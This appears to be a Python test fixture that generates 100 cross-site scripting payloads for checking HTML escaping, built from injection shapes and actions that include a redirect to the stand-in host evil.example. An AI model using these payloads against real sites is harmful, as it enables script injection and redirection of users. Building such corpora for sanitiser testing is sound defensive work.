"""A hundred texts that would do something if a page took them for anything but text."""

_ACTS = ("window.pwned=1", "alert(1)", "document.title='pwned'", "location='http://evil.example'")
_SHAPES = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<body onload="{}">',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}" autofocus onfocus="{}">x</a>',
    '<input autofocus onfocus="{}">',
    '<details open ontoggle="{}">x</details>',
    '<video><source onerror="{}"></video>',
    '<math><mtext><style><img src=x onerror="{}"></style></mtext></math>',
    "</div></section></main><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title></script><script>{}</script>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    '<template><script>{}</script></template><slot onslotchange="{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<link rel=stylesheet href=\"javascript:{}\"><style>@import 'http://evil.example/x'</style>",
    '{{{{constructor.constructor("{}")()}}}}',
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;\u2028<script>{}</script>",
)
ATTACKS = [shape.format(act, act) for shape in _SHAPES for act in _ACTS]
assert len(set(ATTACKS)) == 100
